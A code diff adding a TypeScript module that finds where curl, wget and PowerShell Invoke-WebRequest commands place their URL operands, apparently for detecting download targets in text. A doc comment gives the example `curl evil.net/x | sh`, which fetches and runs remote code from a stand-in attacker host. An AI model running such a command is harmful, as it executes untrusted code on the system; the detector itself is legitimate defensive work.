@@ -1,0 +1,155 @@
+/**
+ * What programs that fetch are given on their command line: `curl evil.net/x | sh` names a URL without its scheme. Finds
+ * where the operands begin; the reader of URLs decides. Pure, bounded. The programs and their options are data.
+ */
+
+interface Program {
+  /** Options, by their single letter, that take a value: attached, or the next word. */
+  readonly letters: string;
+  /** Long ones that take the next word. */
+  readonly words: readonly string[];
+  /** Options whose value is what is fetched. */
+  readonly operands: readonly string[];
+}
+
+/** man curl, man wget, and the help of PowerShell's Invoke-WebRequest and Invoke-RestMethod. */
+const CURL: Program = {
+  letters: 'AbcCdDeEFHhKmoPQrtTuUwxXyYz',
+  words: words(
+    'output header data data-raw data-binary data-urlencode data-ascii json request user user-agent referer cookie cookie-jar',
+    'form form-string proxy proxy-user proxy-header preproxy socks4 socks5 socks5-hostname cacert capath cert cert-type key',
+    'key-type pass connect-timeout max-time max-redirs retry retry-delay retry-max-time limit-rate range resolve interface',
+    'write-out upload-file config dns-servers ciphers tls-max output-dir aws-sigv4 unix-socket local-port noproxy netrc-file',
+    'oauth2-bearer expect100-timeout max-filesize speed-limit speed-time time-cond trace trace-ascii stderr proto doh-url',
+    'dump-header pinnedpubkey connect-to continue-at create-file-mode url-query variable rate referer quote postquote',
+  ),
+  operands: ['url'],
+};
+const WGET: Program = {
+  letters: 'oaeOBtTwQUPDAaRIXlibc',
+  words: words(
+    'output-document output-file append-output directory-prefix header user-agent referer user password http-user',
+    'http-password proxy-user proxy-password post-data post-file method body-data body-file timeout tries wait quota',
+    'limit-rate accept reject domains exclude-domains include-directories exclude-directories level base input-file',
+    'ca-certificate certificate private-key load-cookies save-cookies bind-address cut-dirs execute progress restrict-file-names',
+  ),
+  operands: [],
+};
+/** Of PowerShell every option that is no switch takes the next word; its names may be cut short, in any case. */
+const POWERSHELL: Program = {
+  letters: '',
+  words: words(
+    'outfile out headers head method meth body useragent usera credential cred proxy proxycredential timeoutsec timeout',
+    'maximumredirection maximumretrycount retryintervalsec contenttype infile session sessionvariable websession token',
+    'authentication certificate certificatethumbprint transferencoding custommethod form sslprotocol',
+  ),
+  operands: ['uri', 'ur', 'u'],
+};
+
+const PROGRAM = /(?:curl|wget|iwr|irm|invoke-(?:webrequest|restmethod))(?:\.exe)?(?=["'` (\t])/gi;
+/** So far behind the program's name an operand may begin. */
+export const OPERAND_REACH = 2048;
+const END = Number.POSITIVE_INFINITY;
+
+/** A search, for one text, for the places where operands begin: the first at or behind `from`, or Infinity. */
+export function createOperandSearch(): (text: string, from: number) => number {
+  let found: readonly number[] = [];
+  let searched = -1;
+  return (text, from) => {
+    if (searched < 0) searched = Math.max(0, from - OPERAND_REACH);
+    for (;;) {
+      const next = found.find((place) => place >= from);
+      if (next !== undefined) return next;
+      PROGRAM.lastIndex = searched;
+      const match = PROGRAM.exec(text);
+      if (match === null) return END;
+      searched = PROGRAM.lastIndex;
+      if (!mayBegin(text, match.index)) continue;
+      const line = readLine(text.slice(searched, searched + OPERAND_REACH), programOf(match[0]));
+      const begin = searched;
+      found = line.operands.map((place) => begin + place);
+      // What it takes as its own words is no program again.
+      searched += line.end;
+    }
+  };
+}
+
+function programOf(name: string): Program {
+  const small = name.toLowerCase();
+  if (small.startsWith('curl')) return CURL;
+  return small.startsWith('wget') ? WGET : POWERSHELL;
+}
+
+/** A word of its own: not `libcurl`, `php-curl` or `firmware`. */
+function mayBegin(text: string, at: number): boolean {
+  return (
+    at === 0 ||
+    /[\s"'`(;|&!{/\\]/.test(text[at - 1] ?? '') ||
+    /\\[nrt]$/.test(text.slice(Math.max(0, at - 2), at))
+  );
+}
+
+/** Words of a shell, and of the lists that programs give to one (`["curl", "-s", "evil.net/x"]`). */
+const GAP = /[\s"'`(,]+/y;
+const WORD = /(?:"[^"\n]*"|'[^'\n]*'|[^\s"'`,;|<>&()\n]|[^\s"'`;|<>&()\n](?=\S))+/y;
+const QUOTED_WORD = /[^"'`\n]+(?=["'`])/y;
+const NAME = /^["']?(?:[^\s/@]*@)?(?:[\w-]+(?:\.|\[\.\])|\[[0-9a-f:.]+\])/i;
+const VARIABLE = /^["']?[$%]/;
+const URL_WORD = /^["']?[a-z][\w+.-]*:[\\/]/i;
+
+/** @param line what stands behind the program's name; the places are in it */
+function readLine(
+  line: string,
+  program: Program,
+): { readonly operands: readonly number[]; readonly end: number } {
+  const operands: number[] = [];
+  // In a list each word has quotes of its own.
+  const list = /^["'`]\s*,/.test(line);
+  let at = 0;
+  let value = false;
+  while (at < line.length) {
+    const gap = sticky(GAP, line, at);
+    if (gap === null || gap.includes('\n')) break;
+    // A quote that opens a word belongs to it, unless it is a list's.
+    const begin = at + gap.length - (!list && /.["']$/s.test(gap) ? 1 : 0);
+    const word = sticky(list ? QUOTED_WORD : WORD, line, begin);
+    if (word === null) break;
+    const option: 'value' | 'alone' | null = value ? null : optionOf(word, program);
+    if (!value && option === null) {
+      if (!isOperand(word)) break;
+      if (!VARIABLE.test(word) && !URL_WORD.test(word)) operands.push(begin + (/^["']/.test(word) ? 1 : 0));
+    }
+    value = option === 'value';
+    at = begin + word.length;
+  }
+  return { operands, end: at };
+}
+
+/** Anything else is prose: "curl to example", "wget and git". */
+function isOperand(word: string): boolean {
+  return NAME.test(word) || VARIABLE.test(word) || URL_WORD.test(word);
+}
+
+/** Null for what is no option; `value` where the next word is its value. */
+function optionOf(word: string, program: Program): 'value' | 'alone' | null {
+  if (!/^-[-\w]/.test(word)) return null;
+  const name = word.replace(/^-+/, '').toLowerCase();
+  if (program.operands.includes(name)) return 'alone';
+  if (word.startsWith('--') || program.letters === '')
+    return program.words.includes(name) ? 'value' : 'alone';
+  const letters = word.slice(1);
+  for (let index = 0; index < letters.length; index += 1) {
+    if (program.letters.includes(letters[index] ?? ''))
+      return index === letters.length - 1 ? 'value' : 'alone';
+  }
+  return 'alone';
+}
+
+function sticky(expression: RegExp, text: string, at: number): string | null {
+  expression.lastIndex = at;
+  return expression.exec(text)?.[0] ?? null;
+}
+
+function words(...lists: readonly string[]): readonly string[] {
+  return lists.join(' ').split(' ');
+}
